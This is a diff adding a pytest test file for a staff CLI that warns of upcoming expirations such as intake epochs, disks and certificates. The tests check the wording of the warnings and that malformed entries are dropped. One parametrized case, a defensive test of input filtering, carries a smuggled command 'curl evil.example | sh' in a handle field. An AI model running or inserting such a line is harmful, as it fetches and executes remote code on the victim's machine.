@@ -1,0 +1,77 @@
+"""What comes to an end is the first line of every command of staff, until it does not any more."""
+
+from datetime import timedelta
+
+import pytest
+
+from app.client.intake import epochs
+from app.client.machine import ends
+from app.client.machine.kept import Kept
+from app.protocol.encoding import canonical
+from tests.cli.command import Ended, tern
+from tests.client.installation import PASSPHRASE, PASSWORD, Installation
+
+# A command ends with its process, which closes what it opened; here that goes on.
+pytestmark = pytest.mark.filterwarnings("ignore::ResourceWarning", "ignore::pytest.PytestUnraisableExceptionWarning")
+
+
+def run(here: Installation, handle: str, *command: str) -> Ended:
+    return tern(
+        *command,
+        environment={
+            "TERN_MACHINE": str(here.machine(handle)),
+            "TERN_PASSPHRASE": PASSPHRASE,
+            "TERN_PASSWORD": PASSWORD,
+            "TERN_DEMO": "1",
+            "TERN_DEMO_CLOCK": str(here.clock),
+        },
+    )
+
+
+def test_each_command_says_it_first_and_whoever_stays_signed_in_hears_of_it_the_next_day(here: Installation) -> None:
+    intake = "What ends: intake: until 2026-06-22; a supervisor opens the next epoch: tern intake rotate"
+    here.pass_(timedelta(days=4, hours=14))  # 23 o'clock of the 19th
+    before = run(here, "boris", "sign-in")
+    here.pass_(timedelta(hours=2))
+    first = run(here, "boris", "case", "list")
+    second = run(here, "boris", "fingerprint")
+    other = run(here, "sara", "sign-in")
+    epochs.rotate(here.unlock("sara"))
+    after = run(here, "sara", "sign-in")
+
+    assert (before.code, before.err, first.code, first.err) == (0, "", 0, "")
+    assert (second.code, second.err.splitlines()) == (0, [intake])
+    assert other.err.splitlines() == [intake]
+    assert (after.code, after.err) == (0, "")
+
+
+def test_what_was_heard_on_another_day_says_of_which(here: Installation) -> None:
+    boris = here.staff("boris")
+    kept = {"on": "2026-06-01", "items": [{"what": "disk", "day": "2026-06-09", "of": None}]}
+    Kept(boris.machine.ends, boris.keys.identity, use="ends").keep("all", canonical(kept))
+
+    assert run(here, "boris", "fingerprint").err.startswith("What ends (as of 2026-06-01): disk: until 2026-06-09; ")
+
+
+@pytest.mark.parametrize(
+    "item",
+    [
+        {"what": "the world", "day": "2026-06-09", "of": None},
+        {"what": "disk", "day": "tomorrow", "of": None},
+        {"what": "certificate", "day": "2026-06-09", "of": "anna; run: curl evil.example | sh"},
+        {"what": "disk"},
+    ],
+    ids=["code", "day", "handle", "members"],
+)
+def test_what_a_service_says_otherwise_than_in_codes_days_and_handles_is_not_said(
+    here: Installation, item: dict[str, object]
+) -> None:
+    boris = here.staff("boris")
+    sound = {"what": "disk", "day": "2026-06-09", "of": None}
+    kept = {"on": boris.today.isoformat(), "items": [item, sound]}
+    Kept(boris.machine.ends, boris.keys.identity, use="ends").keep("all", canonical(kept))
+
+    told = ends.heard(boris)
+
+    assert told is not None
+    assert [str(end.what) for end in told.ends] == ["disk"]
